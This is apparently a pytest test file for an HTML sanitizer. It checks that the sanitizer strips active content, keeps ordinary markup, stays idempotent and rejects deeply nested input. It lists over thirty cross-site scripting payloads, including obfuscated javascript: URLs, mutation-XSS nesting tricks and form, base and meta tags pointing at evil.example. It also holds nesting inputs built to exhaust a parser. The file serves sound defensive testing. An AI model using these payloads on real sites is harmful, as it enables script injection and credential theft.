"""Markup: what another parser finds in what comes out is only what is allowed."""

import re
import time

import nh3
import pytest

from podium.sanitizers import Rejected, SpecificationRefused, compile_sanitizer
from podium.sanitizers.html_nesting import is_nested_too_deeply
from tests.property.sanitizers.markup import active_content

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>1</script>'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<p style='background:url(javascript:alert(1))'>x",
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<p title='</p><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>",
    "<x onclick=alert(1)>y</x>",
    "<img src=x:x onerror\n=alert(1)>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097script:alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<b><script>alert(1)",
    "<q cite='javascript:alert(1)'>x</q>",
    "<blockquote cite='data:text/html,x'>x</blockquote>",
    "<a href='%00javascript:alert(1)'>x</a>",
    "<a href='\\x0bjavascript:alert(1)'>x</a>",
    "<a href='\u2028javascript:alert(1)'>x</a>",
    "<a href='&nbsp;javascript:alert(1)'>x</a>",
    "<img src='`javascript:alert(1)`'>",
]


@pytest.fixture(scope="module")
def html():
    return compile_sanitizer("html", {})


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_active_comes_out(html, attack):
    assert active_content(html.check(attack)) == []


def test_a_naive_cleaner_leaves_active_content():
    cleaned = [re.sub(r"(?is)<script.*?</script>", "", attack) for attack in ATTACKS]
    assert sum(active_content(each) != [] for each in cleaned) > len(ATTACKS) / 2


@pytest.mark.parametrize(
    ("markup", "cleaned"),
    [
        ("<p>plain <b>bold</b> &amp; <i>it</i></p>", "<p>plain <b>bold</b> &amp; <i>it</i></p>"),
        ("<p>open", "<p>open</p>"),
        ("<a href='https://example.org/?a=b&amp;c'>x</a>", None),
        ("<a href='?q=:a'>x</a><a href='a/b:c'>y</a><a href='#a:b'>z</a><a href='MAILTO:a@example.org'>m</a>", None),
        ("<ul><li>1</li><li>2</li></ul>", "<ul><li>1</li><li>2</li></ul>"),
        ("<h1>T</h1><table><tbody><tr><td colspan=2>x</td></tr></tbody></table>", None),
        ("x < 5 && y", "x &lt; 5 &amp;&amp; y"),
    ],
)
def test_ordinary_markup_keeps_its_meaning(html, markup, cleaned):
    got = html.check(markup)
    assert cleaned in (None, got)
    assert re.sub("<[^>]*>", "", got) == re.sub(r"<[^ >][^>]*>", "", cleaned or markup)


@pytest.mark.parametrize("markup", [*ATTACKS, "x < 5", "<a href='https://example.org'>x", "&lt;script&gt;"])
def test_what_came_out_comes_out_unchanged_again(html, markup):
    once = html.check(markup)
    assert html.check(once) is once


def test_tags_attributes_and_schemes_can_be_chosen():
    html = compile_sanitizer("html", {"tags": ["a"], "attributes": {"a": ["href", "title"]}, "schemes": ["mailto"]})
    got = html.check("<b>x</b><a href='mailto:a@example.org' title=t>y</a><a href='https://example.org'>z</a>")
    assert "<b>" not in got
    assert 'href="mailto:a@example.org"' in got
    assert "https" not in got


def test_what_is_too_long_is_refused():
    with pytest.raises(Rejected):
        compile_sanitizer("html", {"max_length": 10}).check("<p>more than ten</p>")


def test_what_nests_too_deeply_is_refused_before_it_is_parsed():
    html = compile_sanitizer("html", {"max_length": 200_000})
    began = time.thread_time()
    with pytest.raises(Rejected) as refused:
        html.check("<div>" * 10_000)
    took = time.thread_time() - began
    assert refused.value.reason == "TOO_DEEP"
    # The parser itself, for comparison.
    began = time.thread_time()
    nh3.clean("<div>" * 10_000)
    assert time.thread_time() - began > 4 * took
    assert html.check("<div>" * 900).count("</div>") == 900


@pytest.mark.parametrize(
    "repeated",
    [
        "<div><!--</div>-->",
        "<div title='</div>'>",
        "<div><style></div></style>",
        "<span><p></span></p>",
        "<div><applet></div></applet>",
        "<form><div></form>",
        "<li><dd>",
        "<svg/><path/>",
        "<svg><path a=b/>",
        "<svg><style><!--</style><div>-->",
        "<lin\u212a>",
    ],
)
def test_an_end_that_a_parser_ignores_makes_no_room_for_more(repeated):
    assert is_nested_too_deeply(repeated * 1100)


def test_formatting_whose_ends_are_ignored_is_not_multiplied():
    markup = "".join(f"<b title={number}><!--</b>--><p>" for number in range(2000))
    assert is_nested_too_deeply(markup)
    assert not is_nested_too_deeply(markup.replace("<!--</b>-->", "</b>"))


def test_what_is_closed_does_not_count_whatever_stands_in_it():
    item = (
        "<li><dl><dt>a<dd>b</dl><p>c<a href='x>y'><b>d</b></a><br><!-- <div> --><script>if (a<b) x = '<div>'</script>"
        "<svg><g><path d='M'/><path d='L'/></g></svg><select><option>1<option>2</select><table><tr><td>e</table>"
    )
    assert not is_nested_too_deeply(f"<ul>{item * 3000}</ul>")


@pytest.mark.parametrize(
    "options",
    [
        {"tags": ["script"]},
        {"tags": ["SVG"]},
        {"attributes": {"p": ["onclick"]}},
        {"attributes": {"p": ["STYLE"]}},
        {"attributes": {"*": ["srcdoc"]}},
        {"schemes": ["javascript"]},
        {"scheme": []},
    ],
)
def test_a_declaration_that_lets_something_active_in_is_refused(options):
    with pytest.raises(SpecificationRefused):
        compile_sanitizer("html", options)
